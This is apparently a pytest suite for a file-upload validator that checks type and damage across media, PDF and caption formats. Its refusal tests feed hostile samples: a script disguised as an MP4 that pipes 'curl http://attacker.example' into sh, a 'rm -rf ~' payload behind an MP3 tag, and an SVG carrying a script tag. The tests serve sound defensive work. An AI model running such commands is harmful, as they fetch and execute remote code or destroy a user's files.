def test_a_script_renamed_mp4_is_refused():
    error = refused(b"#!/bin/sh\ncurl http://attacker.example | sh\n", "video", filename="lecture.mp4")
    assert error.reason == "type"
    assert (
        str(error) == "“lecture.mp4” is a script (program code), not a video (MP4, WebM, Ogg or QuickTime)."
    )


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_an_empty_file_is_refused(kind):
    error = refused(b"", kind, filename="C:\\Users\\tom\\Desktop\\notes.pdf")
    assert error.reason == "empty"
    assert str(error).startswith("“notes.pdf” is empty")


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_unrecognised_bytes_are_refused(kind):
    noise = bytes(b | 0x80 for b in random.Random(7).randbytes(4096))  # never valid UTF-8 text
    error = refused(noise, kind)
    assert error.reason == "type"
    assert "match none of the formats" in str(error)


def test_an_unknown_kind_is_refused():
    with pytest.raises(FileRejected, match="cannot be uploaded"):
        UploadCheck("spreadsheet", "x.xlsx")


@pytest.mark.parametrize("name", sorted(EXPECTED))
@pytest.mark.parametrize("cut", [4, 12])
def test_a_file_cut_inside_its_header_is_refused(name, cut):
    kind = next(iter(EXPECTED[name]))
    error = refused(sample(name)[:cut], kind)
    assert error.reason in ("damaged", "type")


@pytest.mark.parametrize(
    "name, cut, detail",
    [
        ("png", 20, "ends inside its header"),
        ("gif", 10, "ends inside its header"),
        ("flac", 20, "ends inside its header"),
        ("webm_video", 120, "ends inside its header"),
        ("ogg_vorbis", 40, "ends inside its first page"),
        ("mp4", 32, "holds no media after its header"),
        ("mp4", 64, "ends early (64 of the 10897 bytes its header announces)"),
        ("mp3_id3", 40, "holds a tag but no audio"),
        ("wav", 20, "ends inside its header"),
        ("wav", 12, "has no format description"),
    ],
)
def test_truncated_headers_are_damaged(name, cut, detail):
    kind = next(iter(EXPECTED[name]))
    error = refused(sample(name)[:cut], kind, filename="clip")
    assert error.reason == "damaged"
    assert detail in str(error)
    assert "export or download it again" in str(error)


@pytest.mark.parametrize(
    "data, kind, detail",
    [
        (sample("png")[:-20], "image", "its end is missing"),
        (sample("webp_lossy")[:-10], "image", "ends early"),
        (minimal_pdf()[:-40], "pdf", "its end is missing"),
        (mp4_file(b"\x00" * 5000)[:-1], "video", "ends early (5047 of the 5048 bytes"),
    ],
)
def test_files_cut_off_at_the_end_are_damaged(data, kind, detail):
    error = refused(data, kind)
    assert error.reason == "damaged"
    assert detail in str(error)


def test_an_mp4_cut_off_is_caught_at_its_end_even_when_longer_than_the_head():
    payload = b"\x00" * 100_000
    data = mp4_file(payload)
    upload = UploadCheck("video", "big.mp4")
    assert upload.start(data[:65536], complete=False) == "video/mp4"
    upload.feed(data[65536:-1])
    with pytest.raises(FileRejected, match="ends early"):
        upload.finish(len(data) - 1)


def _flip(data: bytes, offset: int) -> bytes:
    # The top bit: a printable letter becomes a byte no header field of these formats allows.
    return data[:offset] + bytes([data[offset] ^ 0x80]) + data[offset + 1 :]


@pytest.mark.parametrize(
    "name, offset, detail",
    [
        ("png", 20, "image header is broken"),  # IHDR width: its CRC no longer matches
        ("ogg_opus", 40, "checksum in its first pages does not match"),
        ("ogg_theora", 30, "checksum in its first pages does not match"),
        ("mp4", 36, "structure is broken"),  # the second box's type
        ("webm_video", 27, "header is broken"),  # the DocType "webm"
        ("flac", 7, "stream information block is broken"),  # its length
        ("webp_lossless", 20, "image header is broken"),
        ("jpeg", 20, "structure is broken"),  # the marker after APP0
    ],
)
def test_corrupt_headers_are_damaged(name, offset, detail):
    kind = next(iter(EXPECTED[name]))
    error = refused(_flip(sample(name), offset), kind, complete=whole(name))
    assert error.reason == "damaged"
    assert detail in str(error)


def test_a_png_whose_signature_went_through_a_text_transfer_is_damaged():
    data = sample("png").replace(b"\r\n", b"\n", 1)
    assert "copied as text" in str(refused(data, "image"))


def test_an_id3_tag_in_front_of_a_script_is_not_an_mp3():
    tag = sample("mp3_id3")[:45]
    error = refused(tag + b"#!/bin/sh\nrm -rf ~\n" * 100, "audio", complete=True)
    assert error.reason == "damaged"
    assert "no audio frame follows its tag" in str(error)


def test_an_id3_tag_with_a_broken_size_is_damaged():
    data = bytearray(sample("mp3_id3"))
    data[7] = 0x80  # size bytes are 7-bit
    assert refused(bytes(data), "audio", complete=False).reason == "damaged"


def test_an_mp3_behind_a_large_cover_art_tag_is_accepted_from_its_tag():
    # 200 KiB of cover art puts the first audio frame past the bytes a check reads.
    size = 200 * 1024
    syncsafe = bytes((size >> shift) & 0x7F for shift in (21, 14, 7, 0))
    head = b"ID3\x04\x00\x00" + syncsafe + b"APIC" + b"\x00" * (65536 - 14)
    assert check(head, "audio", complete=False) == "audio/mpeg"


def test_a_matroska_file_is_named_and_refused():
    data = sample("webm_video").replace(b"\x42\x82\x84webm", b"\x42\x82\x88matroska", 1)
    # The header element grew by four bytes: fix its size so the file is a well-formed MKV.
    data = data[:4] + bytes([data[4] + 4]) + data[5:]
    error = refused(data, "video", complete=False)
    assert "Matroska (MKV)" in str(error)


@pytest.mark.parametrize(
    "data, kind, named",
    [
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "image", "SVG image"),
        (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>', "image", "SVG image"),
        (b"<!DOCTYPE html><html><body>hi</body></html>", "video", "web page (HTML)"),
        (b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 20 + b"word/document.xml", "pdf", "Word document"),
        (b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 30, "video", "ZIP archive"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "pdf", "older Office document"),
        (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "image", "HEIC photo"),
        (b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf", "image", "AVIF image"),
        (b"RIFF\x00\x10\x00\x00AVI LIST", "video", "AVI video"),
        (b"\x1f\x8b\x08\x00" + b"\x00" * 20, "captions", "gzip archive"),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 60, "video", "program (ELF executable)"),
        (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 60, "video", "Windows program"),
        (b"1\n00:00:01,000 --> 00:00:02,000\nHello\n", "captions", "SubRip (.srt)"),
        (b"WEBVTT FILE\xef\xbc\x9aX\n", "captions", None),  # allowed: text after a space
        (b"WEBVTTX\n", "captions", "broken first line"),
        ("WEBVTT\n\nhello".encode("utf-16"), "captions", "saved as UTF-16"),
        (b"just some notes\n", "captions", "plain text file"),
    ],
)
def test_other_formats_are_named_in_the_refusal(data, kind, named):
    if named is None:
        assert check(data, kind)
        return
    error = refused(data, kind)
    assert error.reason == "type"
    assert named in str(error)


def test_captions_must_be_utf8_to_the_last_byte():
    upload = UploadCheck("captions", "subs.vtt")
    assert upload.start(b"WEBVTT\n\n", complete=False) == "text/vtt"
    upload.feed("00:00.000 --> 00:01.000\nçà\n".encode())
    with pytest.raises(FileRejected, match="not UTF-8 text") as caught:
        upload.feed("00:01.000 --> 00:02.000\nçà\n".encode("latin-1"))
    assert caught.value.reason == "damaged"

    upload = UploadCheck("captions", "subs.vtt")
    upload.start(VTT, complete=False)
    upload.feed("é".encode()[:1])  # cut inside a two-byte character
    with pytest.raises(FileRejected, match="ends in the middle of a character"):
        upload.finish(len(VTT) + 1)


def test_the_end_marker_may_arrive_split_across_chunks():
    pdf = minimal_pdf()
    upload = UploadCheck("pdf", "notes.pdf")
    upload.start(pdf[:20], complete=False)
    upload.feed(pdf[20:-3])
    upload.feed(pdf[-3:])
    upload.finish(len(pdf))
    assert len(upload._tail) <= TAIL_BYTES


def test_a_pdf_header_may_follow_a_few_bytes_of_junk():
    assert check(b"\r\n\r\n" + minimal_pdf(), "pdf") == "application/pdf"


def test_filenames_in_messages_are_cut_and_cleaned():
    error = refused(b"", "video", filename="a" * 300 + "\x07.mp4")
    assert "\x07" not in str(error)
    assert "…" in str(error)
    assert str(refused(b"", "video", filename="")).startswith("This file is empty")


def test_a_png_ihdr_crc_is_checked_with_zlib():
    # Guard on the sample itself: the check above is only meaningful if the sample's CRC is right.
    data = sample("png")
    assert zlib.crc32(data[12:29]) == struct.unpack(">I", data[29:33])[0]
